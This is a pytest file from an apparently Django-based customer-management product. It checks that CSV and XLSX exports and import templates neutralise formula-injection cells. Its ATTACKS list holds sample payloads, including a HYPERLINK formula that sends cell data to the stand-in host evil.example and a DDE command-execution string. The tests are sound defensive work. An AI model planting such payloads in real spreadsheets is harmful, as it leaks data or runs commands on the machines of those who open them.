"""Every CSV and XLSX the product writes neutralises cells a spreadsheet would run as a formula
(OWASP CSV injection): text starting with = + - @, a tab or a carriage return gets a leading
apostrophe; numbers stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from dateutil.relativedelta import relativedelta
from django.core.management import call_command

from customers.imports.template_files import template_csv, template_xlsx
from customers.spreadsheets import spreadsheet_cell, xlsx_append
from tests.factories import CustomerFactory

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["王丽", "13812345678", "a=b", "", None, 3, Decimal("-12.50"), dt.date(2026, 1, 2)])
def test_everything_else_is_left_as_it_is(value):
    assert spreadsheet_cell(value) == value


def test_a_negative_amount_stays_a_number_in_a_workbook():
    workbook = openpyxl.Workbook()
    xlsx_append(workbook.active, ["=1+1", Decimal("-12.50"), -3, "-5"])
    out = io.BytesIO()
    workbook.save(out)
    cells = next(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    assert cells == ("'=1+1", -12.5, -3, "'-5")


@pytest.mark.django_db
def test_the_call_list_export_writes_no_formula(tmp_path, store, beautician_a):
    last_visit = store.today() - relativedelta(months=1, days=3)
    for n, name in enumerate(ATTACKS):
        CustomerFactory(store=store, name=name, phone=f"1391234{n:04d}", last_visit_on=last_visit)
    call_command("segment_customers")
    out = tmp_path / "calls.csv"
    call_command("export_call_lists", "--out", str(out), stdout=io.StringIO())
    with out.open(encoding="utf-8", newline="") as handle:
        names = sorted(row["name"] for row in csv.DictReader(handle))
    assert names == sorted("'" + name for name in ATTACKS)


@pytest.mark.parametrize("kind", ["stores", "staff", "customers", "visits", "cards"])
def test_the_import_templates_go_through_the_same_cell_rule(kind, monkeypatch):
    """The templates hold only our own words; they are written by the same writers all the same."""
    from customers.imports import template_files

    monkeypatch.setitem(template_files.EXAMPLES, "store", "=EVIL()")
    monkeypatch.setitem(template_files.EXAMPLES, "code", "=EVIL()")
    workbook = openpyxl.load_workbook(io.BytesIO(template_xlsx(kind)))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(values_only=True):
            assert not any(isinstance(cell, str) and cell.startswith("=") for cell in row)
    header = next(csv.reader(io.StringIO(template_csv(kind).decode("utf-8-sig"))))
    assert not any(cell.startswith("=") for cell in header)
